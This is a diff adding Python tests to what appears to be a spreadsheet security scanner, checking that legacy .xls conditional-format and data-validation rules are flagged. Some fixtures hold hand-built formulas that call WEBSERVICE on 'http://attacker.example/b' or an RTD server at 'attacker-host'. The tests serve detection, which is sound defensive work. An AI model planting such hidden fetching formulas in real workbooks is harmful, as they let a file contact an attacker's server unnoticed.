@@ -480,3 +480,66 @@ def test_a_pivot_caches_named_source_in_another_workbook_is_judged_as_a_link(
     assert [code for code, _ in found(xls(workbook(names=(record_,))), policy)] == [EXTERNAL_LINK]
     own = record(0x0052, name + struct.pack("<H", 0))
     assert found(xls(workbook(names=(own,))), policy) == []
+
+
+# -- conditional formats and data validation (red team 100) ---------------------------------------
+
+WEBSERVICE_RGCE = (
+    struct.pack("<BHHH", 0x39, 0, 1, 0) + text("http://attacker.example/b") + call(USER_DEFINED, 2)
+)
+WEBSERVICE_NAMES = (
+    record(0x01AE, struct.pack("<HH", 1, 0x3A01)),
+    record(0x0023, struct.pack("<HIBB", 0, 0, 16, 0) + b"_xlfn.WEBSERVICE"),
+    record(0x0017, struct.pack("<HHHH", 1, 0, 0xFFFE, 0xFFFE)),
+)
+RTD_RGCE = text("acme.rtdserver") + text("attacker-host") + text("topic") + call(RTD, 3)
+A1_ABOVE_5 = struct.pack("<BHH", 0x24, 0, 0) + struct.pack("<BH", 0x1E, 5) + b"\x0d"
+
+
+def cf(rgce: bytes, font: bool = False, tail: bytes = b"") -> bytes:
+    """A CF record (ct 2: a formula) whose DXFN holds a font block or nothing; ``tail``: bytes
+    a writer left after the formulas."""
+    flags = 0x801FFFFF | (1 << 26 if font else 0)
+    dxfn = struct.pack("<IH", flags, 0x8000) + (bytes(118) if font else b"")
+    return record(0x01B1, struct.pack("<BBHH", 2, 0, len(rgce), 0) + dxfn + rgce + tail)
+
+
+def cf12(rgce: bytes) -> bytes:
+    """A CF12 record: future record header, ct 2, an empty DXFN12, the formula, no fmlaActive."""
+    head = struct.pack("<HH8s", 0x087A, 0, bytes(8)) + struct.pack("<BBHH", 2, 0, len(rgce), 0)
+    return record(0x087A, head + struct.pack("<IH", 0, 0) + rgce + struct.pack("<H", 0))
+
+
+def dv(rgce: bytes, prompt: str = "") -> bytes:
+    """A DV record: flags, four strings (a prompt title, the rest empty), formula1."""
+    strings = struct.pack("<HB", len(prompt), 0) + prompt.encode() + b"\x01\x00\x00\x00" * 3
+    body = struct.pack("<I", 0x0103) + strings + struct.pack("<HH", len(rgce), 0) + rgce
+    return record(0x01BE, body + struct.pack("<HH", 0, 0) + struct.pack("<H", 0))
+
+
+@pytest.mark.parametrize(
+    ("rule", "names"),
+    [
+        (cf(WEBSERVICE_RGCE), WEBSERVICE_NAMES),
+        (cf(WEBSERVICE_RGCE, font=True), WEBSERVICE_NAMES),
+        (cf(RTD_RGCE), ()),
+        (cf(RTD_RGCE, tail=bytes(7)), ()),  # read where the DXFN ends, not from the record's end
+        (cf12(RTD_RGCE), ()),
+        (dv(WEBSERVICE_RGCE, prompt="Rate"), WEBSERVICE_NAMES),
+        (dv(RTD_RGCE), ()),
+    ],
+    ids=["cf-webservice", "cf-font-webservice", "cf-rtd", "cf-padded-rtd", "cf12-rtd",
+         "dv-webservice", "dv-rtd"],
+)  # fmt: skip
+def test_conditional_format_and_validation_formulas(
+    rule: bytes, names: tuple[bytes, ...], policy: Policy
+) -> None:
+    # Excel calculates them to draw the cell or check an entry, as a .xlsx's <formula>
+    assert found(xls(workbook(rule, names=names)), policy) == [(EXTERNAL_LINK, FETCHING)]
+
+
+@pytest.mark.parametrize(
+    "rule", [cf(A1_ABOVE_5), cf(A1_ABOVE_5, font=True), cf12(A1_ABOVE_5), dv(A1_ABOVE_5)]
+)
+def test_honest_conditional_formats_and_validation_pass(rule: bytes, policy: Policy) -> None:
+    assert found(xls(workbook(rule)), policy) == []
